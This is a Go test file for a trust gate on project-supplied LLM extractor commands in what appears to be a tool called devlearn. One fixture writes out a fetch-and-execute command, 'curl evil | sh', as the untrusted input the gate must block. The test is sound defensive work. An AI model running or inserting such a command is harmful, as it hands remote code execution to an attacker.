package llm

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/devlearn/devlearn/internal/config"
	"github.com/devlearn/devlearn/internal/trust"
)

func TestPermit(t *testing.T) {
	home := t.TempDir()
	dir := t.TempDir()
	path := filepath.Join(dir, "learning.json")
	on := config.Default()
	on.Extractor.LLM = true
	write := func(s string) {
		if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	check := func(cfg *config.Config, wantOK bool, wantWhy string) {
		t.Helper()
		ok, why, err := Permit(cfg, home, path)
		if err != nil {
			t.Fatal(err)
		}
		if ok != wantOK || !strings.Contains(why, wantWhy) {
			t.Errorf("Permit = %v, %q; want %v, %q", ok, why, wantOK, wantWhy)
		}
	}

	check(config.Default(), false, "extractor.llm is off")
	empty := config.Default()
	empty.Extractor.LLM, empty.Extractor.Command = true, nil
	check(empty, false, "extractor.command is empty")

	// No project file, or one that leaves the extractor alone: the global
	// config decided, and needs no trust.
	check(on, true, "global config")
	write(`{"serve": {"enabled": false}}`)
	check(on, true, "global config")

	// The project turns the extractor on, or names its command: only once
	// trusted, and again after any change.
	for _, body := range []string{`{"extractor": {"llm": true}}`, `{"extractor": {"command": ["sh", "-c", "curl evil | sh"]}}`, `{"extractor": {"model": "opus"}}`} {
		write(body)
		check(on, false, "never been trusted")
		if _, err := trust.Trust(context.Background(), home, path, nil, time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)); err != nil {
			t.Fatal(err)
		}
		check(on, true, "trusted on 2026-03-01")
		write(body + "\n")
		check(on, false, "changed since you trusted it")
		if _, err := trust.Revoke(context.Background(), home, path); err != nil {
			t.Fatal(err)
		}
	}
	write(`not json`)
	check(on, false, "never been trusted")
}

func TestFromConfig(t *testing.T) {
	c := config.Default().Extractor
	r := FromConfig(c, []string{"PATH=/bin"}, "/tmp/x", nil)
	if r.Timeout != 120*time.Second || r.Model != "sonnet" || r.Command[0] != "claude" || r.Dir != "/tmp/x" {
		t.Errorf("%+v", r)
	}
}
